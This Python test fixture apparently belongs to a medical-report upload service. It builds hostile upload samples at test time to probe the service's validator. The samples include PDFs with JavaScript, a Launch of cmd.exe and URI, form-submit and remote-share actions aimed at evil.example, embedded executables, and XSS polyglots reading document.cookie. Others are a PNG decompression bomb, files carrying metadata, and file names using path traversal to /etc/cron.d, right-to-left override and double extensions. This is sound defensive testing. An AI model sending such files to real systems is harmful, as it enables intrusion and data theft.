"""Hostile uploads, built in code at test time: nothing hostile is kept in the repository.

Each entry is (name shown to the server, bytes). They cover what a probe throws at an upload:
PDFs with every kind of action and attachment, broken or truncated structure, huge and numerous
pages, password protection, polyglots, files renamed to look like something else, decompression
bombs, photos full of metadata, and file names that try path traversal or hide their extension.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf
from PIL import ExifTags, Image, PngImagePlugin

from consilium.documents.tests.conftest import text_pdf

TEXT = "Haemoglobin 9.1 g/dL, range 12.0 - 15.0"


def _pdf(change: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    pdf = pikepdf.open(io.BytesIO(text_pdf(TEXT)))
    change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **save)  # type: ignore[arg-type]
    return buffer.getvalue()


def _action(kind: str, **fields: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **fields)


def _open_action(kind: str, **fields: object) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = _action(kind, **fields)

    return _pdf(change)


def _page_event() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.AA = pikepdf.Dictionary(
            O=_action("URI", URI=pikepdf.String("https://evil.example/open")),
            C=_action("SubmitForm", F=pikepdf.String("https://evil.example/close")),
        )

    return _pdf(change)


def _document_event() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AA = pikepdf.Dictionary(WC=_action("URI", URI=pikepdf.String("https://e.x/")))

    return _pdf(change)


def _names_javascript() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        script = pdf.make_indirect(_action("JavaScript", JS=pikepdf.String("app.alert(1)")))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("x"), script])))

    return _pdf(change)


def _js_in_object_stream() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(
            _action("JavaScript", JS=pikepdf.String("app.launchURL('https://e.x')")))

    return _pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _embedded_file() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00payload")

    return _pdf(change)


def _file_attachment_annotation() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"MZ\x90\x00")
        stream.Type = pikepdf.Name.EmbeddedFile
        spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"),
                                  EF=pikepdf.Dictionary(F=stream))
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
            Rect=pikepdf.Array([0, 0, 10, 10]), FS=spec))])

    return _pdf(change)


def _xfa() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(),
                                               XFA=pdf.make_stream(b"<xdp:xdp/>"))

    return _pdf(change)


def _rich_media() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia,
            Rect=pikepdf.Array([0, 0, 10, 10]), RichMediaContent=pikepdf.Dictionary()))])

    return _pdf(change)


def _broken_xref() -> bytes:
    data = text_pdf(TEXT)
    start = data.rindex(b"xref")
    wrong = b"xref\n0 9\n" + b"0000099999 00000 n \n" * 9
    return data[:start] + wrong + data[data.rindex(b"trailer") :]


def _truncated_pdf() -> bytes:
    data = text_pdf(TEXT)
    return data[: len(data) // 2]


def _deep_nesting(depth: int = 5000) -> bytes:
    body = b"[" * depth + b"]" * depth
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + body + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    head = b"%PDF-1.4\n"
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(head))
        head += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(head)
    head += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return head + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref


def _huge_page() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(14_400, 14_400))
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def _user_unit_page() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.UserUnit = 75_000

    return _pdf(change)


def _odd_user_unit() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.UserUnit = pikepdf.Name.Huge

    return _pdf(change)


def _endless_media_box() -> bytes:
    data = text_pdf(TEXT)
    return data.replace(b"/MediaBox [ 0 0 595 842 ]", b"/MediaBox [ 0 0 1e308 1e308 ]")


def _many_pages(count: int = 5000) -> bytes:
    pdf = pikepdf.new()
    for _ in range(count):
        pdf.add_blank_page(page_size=(595, 842))
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


def _password() -> bytes:
    return _pdf(lambda pdf: None, encryption=pikepdf.Encryption(user="1234", owner="lab"))


def _pdf_html_polyglot() -> bytes:
    return b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF"


def _jpeg(**save: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (48, 32), (200, 30, 30)).save(buffer, "JPEG", **save)  # type: ignore[arg-type]
    return buffer.getvalue()


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _jpeg_with(*segments: bytes) -> bytes:
    plain = _jpeg()
    return plain[:2] + b"".join(segments) + plain[2:]


def _gps_exif() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Asha Verma's phone"
    exif[ExifTags.Base.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "N",
                                   ExifTags.GPS.GPSLatitude: (18.0, 31.0, 12.0)}
    return _jpeg(exif=exif)


def _jpeg_zip_polyglot() -> bytes:
    archive = b"PK\x03\x04" + b"\x00" * 26 + b"evil.html<script>alert(1)</script>"
    return _jpeg() + archive


def _png(text: bool = False) -> bytes:
    buffer = io.BytesIO()
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Author", "Asha Verma")
        info.add_itxt("Description", "Asha Verma, 12 Gomti Nagar", zip=True)
        info.add_text("Comment", "<script>alert(1)</script>", zip=True)
    Image.new("RGB", (40, 30), (10, 120, 10)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_bomb(side: int = 12_000) -> bytes:
    """A PNG of side × side grey pixels (144 MP) in about 150 kB: every row is zeros."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


def _png_exif_chunk() -> bytes:
    data = _png()
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = "Asha Verma"
    end = data.rindex(b"IEND") - 4
    return data[:end] + _png_chunk(b"eXIf", exif.tobytes()) + data[end:]


XMP = b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><dc:creator>Asha Verma</dc:creator></x:xmpmeta>"
IPTC = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x0e\x1c\x02\x50\x00\x0aAsha Verma"

# name -> (file name, bytes builder)
CORPUS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf javascript on open": ("report.pdf", lambda: _open_action(
        "JavaScript", JS=pikepdf.String("app.alert(1)"))),
    "pdf launch on open": ("report.pdf", lambda: _open_action(
        "Launch", F=pikepdf.String("cmd.exe"))),
    "pdf import data on open": ("report.pdf", lambda: _open_action(
        "ImportData", F=pikepdf.String("data.fdf"))),
    "pdf rendition on open": ("report.pdf", lambda: _open_action("Rendition")),
    "pdf uri on open": ("report.pdf", lambda: _open_action(
        "URI", URI=pikepdf.String("https://evil.example/track"))),
    "pdf submit form on open": ("report.pdf", lambda: _open_action(
        "SubmitForm", F=pikepdf.String("https://evil.example/form"))),
    "pdf go to remote on open": ("report.pdf", lambda: _open_action(
        "GoToR", F=pikepdf.String("\\\\evil.example\\share\\x.pdf"))),
    "pdf page events": ("report.pdf", _page_event),
    "pdf document events": ("report.pdf", _document_event),
    "pdf document javascript": ("report.pdf", _names_javascript),
    "pdf javascript in an object stream": ("report.pdf", _js_in_object_stream),
    "pdf embedded file": ("report.pdf", _embedded_file),
    "pdf file attachment annotation": ("report.pdf", _file_attachment_annotation),
    "pdf xfa form": ("report.pdf", _xfa),
    "pdf rich media": ("report.pdf", _rich_media),
    "pdf broken xref": ("report.pdf", _broken_xref),
    "pdf truncated": ("report.pdf", _truncated_pdf),
    "pdf deep nesting": ("report.pdf", _deep_nesting),
    "pdf huge page": ("report.pdf", _huge_page),
    "pdf huge page by user unit": ("report.pdf", _user_unit_page),
    "pdf with a user unit that is not a number": ("report.pdf", _odd_user_unit),
    "pdf with an endless media box": ("report.pdf", _endless_media_box),
    "pdf 5000 pages": ("report.pdf", _many_pages),
    "pdf with a password": ("report.pdf", _password),
    "pdf and html polyglot": ("report.pdf", _pdf_html_polyglot),
    "html renamed pdf": ("report.pdf", lambda: b"<html><script>alert(1)</script></html>"),
    "svg renamed png": ("scan.png", lambda: (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
        b"</svg>")),
    "windows program renamed pdf": ("report.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 2000),
    "zero bytes": ("empty.pdf", lambda: b""),
    "jpeg with gps exif": ("IMG_0001.jpg", _gps_exif),
    "jpeg with xmp": ("IMG_0002.jpg", lambda: _jpeg_with(_segment(0xE1, XMP))),
    "jpeg with iptc": ("IMG_0003.jpg", lambda: _jpeg_with(_segment(0xED, IPTC))),
    "jpeg with a comment": ("IMG_0004.jpg", lambda: _jpeg_with(
        _segment(0xFE, b"Owner: Asha Verma <script>alert(1)</script>"))),
    "jpeg and zip polyglot": ("IMG_0005.jpg", _jpeg_zip_polyglot),
    "jpeg truncated": ("IMG_0006.jpg", lambda: _jpeg()[:200]),
    "png with text chunks": ("scan.png", lambda: _png(text=True)),
    "png with an exif chunk": ("scan.png", _png_exif_chunk),
    "png decompression bomb": ("scan.png", _png_bomb),
    "path traversal name": ("../../../etc/cron.d/report.pdf", lambda: text_pdf(TEXT)),
    "windows path traversal name": ("..\\..\\windows\\system32\\report.pdf",
                                    lambda: text_pdf(TEXT)),
    "right-to-left override name": ("report\u202efdp.exe", lambda: text_pdf(TEXT)),
    "double extension name": ("report.pdf.exe", lambda: text_pdf(TEXT)),
    "control characters in the name": ("rep\x00ort\r\n.pdf", lambda: text_pdf(TEXT)),
    "very long name": ("a" * 5000 + ".pdf", lambda: text_pdf(TEXT)),
}
